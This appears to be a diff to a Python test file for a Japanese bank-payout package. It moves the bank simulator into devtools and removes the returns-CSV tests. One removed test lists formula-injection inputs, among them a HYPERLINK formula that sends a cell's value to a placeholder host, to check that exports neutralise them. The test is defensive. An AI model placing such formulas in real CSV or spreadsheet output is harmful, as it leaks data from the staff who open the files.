@@ -1,4 +1,4 @@
-"""payouts/bank.py (what a bank runs on a sealed file) and payouts/banksim.py."""
+"""payouts/bank.py (what a bank runs on a sealed file) and the bank simulator (devtools/banksim.py)."""
 
 from __future__ import annotations
 
@@ -15,7 +15,9 @@ from pathlib import Path
 import pytest
 from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
 
-from payouts import bank, banksim, sealing
+from devtools import banksim
+from payouts import bank, sealing
+from payouts.returns_csv import RETURN_REASONS
 from payouts.bank import BankError, BankVerifyError
 
 # --- a tiny hand-built 総合振込 file (zengin.md §1.3-1.5), independent of payouts.zengin's writer ---
@@ -417,7 +419,7 @@ def test_main_keygen_prints_the_recipient(tmp_path, capsys):
     assert bank.main(["keygen", "--out", str(path)]) == 2  # never overwrite a key
 
 
-# --- banksim and the returns CSV ------------------------------------------------------------
+# --- the bank simulator ------------------------------------------------------------------------
 
 
 def test_banksim_is_deterministic_for_a_seed():
@@ -426,8 +428,8 @@ def test_banksim_is_deterministic_for_a_seed():
     assert first == banksim.execute(many, return_share=0.1, seed=7)
     assert first != banksim.execute(many, return_share=0.1, seed=8)
     assert len(first) == 20
-    assert {r.reason_code for r in first} <= set(banksim.RETURN_REASONS)
-    assert all(r.reason == banksim.RETURN_REASONS[r.reason_code] for r in first)
+    assert {r.reason_code for r in first} <= set(RETURN_REASONS)
+    assert all(r.reason == RETURN_REASONS[r.reason_code] for r in first)
     assert {r.payment_reference for r in first} <= {2000 + i for i in range(1, 201)}
     assert len({r.payment_reference for r in first}) == 20
 
@@ -444,55 +446,3 @@ def test_banksim_refuses_duplicate_references():
     doubled = zengin_file(PAYMENTS + PAYMENTS[:1])
     with pytest.raises(ValueError, match="顧客コード"):
         banksim.execute(doubled, return_share=0.5, seed=1)
-
-
-def test_returns_csv_round_trip(tmp_path):
-    rows = [banksim.ReturnRow(1001, "2", "取引なし"), banksim.ReturnRow(1003, "N", "名義相違")]
-    path = banksim.write_returns_csv(rows, tmp_path / "returns.csv")
-    assert path.read_bytes().decode("utf-8").splitlines()[0] == "payment_reference,reason_code,reason"
-    assert banksim.read_returns_csv(path) == rows
-    assert banksim.read_returns_csv(banksim.write_returns_csv([], tmp_path / "empty.csv")) == []
-
-
-def test_returns_csv_cells_cannot_be_spreadsheet_formulas(tmp_path):
-    """Operations staff open the returns file in a spreadsheet: a reason text that begins like a formula is
-    written as text, the reference stays a number, and the reader refuses the altered text rather than
-    guessing (the reasons we write never begin with a trigger, so the round trip above is unaffected)."""
-    import csv
-    import io
-
-    from app import csvsafe
-
-    hostile = ['=HYPERLINK("http://x"&A1,"x")', "+1", "-1+1", "@SUM(1)", "\t=1", "\r=1"]
-    rows = [banksim.ReturnRow(1000 + i, "9", value) for i, value in enumerate(hostile)]
-    path = banksim.write_returns_csv(rows, tmp_path / "returns.csv")
-    header, *lines = csv.reader(io.StringIO(path.read_bytes().decode("utf-8"), newline=""))
-    assert lines == [[str(1000 + i), "9", "'" + value] for i, value in enumerate(hostile)]
-    assert all(csvsafe.restore(line[2]) == value for line, value in zip(lines, hostile))
-    with pytest.raises(banksim.ReturnsCsvError, match="2 行目"):
-        banksim.read_returns_csv(path)
-
-
-@pytest.mark.parametrize(
-    ("content", "line"),
-    [
-        (b"", 1),
-        (b"reference,code,reason\n", 1),
-        ("payment_reference,reason_code,reason\n1001,2,取引なし\n1002,2\n".encode(), 3),
-        ("payment_reference,reason_code,reason\n-5,2,取引なし\n".encode(), 2),
-        ("payment_reference,reason_code,reason\n１２,2,取引なし\n".encode(), 2),  # full-width digits
-        ("payment_reference,reason_code,reason\n12345678901,2,取引なし\n".encode(), 2),
-        ("payment_reference,reason_code,reason\n1001,7,取引なし\n".encode(), 2),
-        ("payment_reference,reason_code,reason\n1001,2,名義相違\n".encode(), 2),
-        ("payment_reference,reason_code,reason\n1001,2,取引なし\n1001,9,その他\n".encode(), 3),
-        ("payment_reference,reason_code,reason\n1001,2,取引なし\n\n1002,9,その他\n".encode(), 3),
-        ("payment_reference,reason_code,reason\n1001,9,その他\n".encode() + b"1002,9,\xff\n", 3),  # not UTF-8
-    ],
-)
-def test_returns_csv_reader_is_strict_and_names_the_line(content, line, tmp_path):
-    path = tmp_path / "returns.csv"
-    path.write_bytes(content)
-    with pytest.raises(banksim.ReturnsCsvError) as caught:
-        banksim.read_returns_csv(path)
-    assert caught.value.line_number == line
-    assert f"{line} 行目" in str(caught.value)
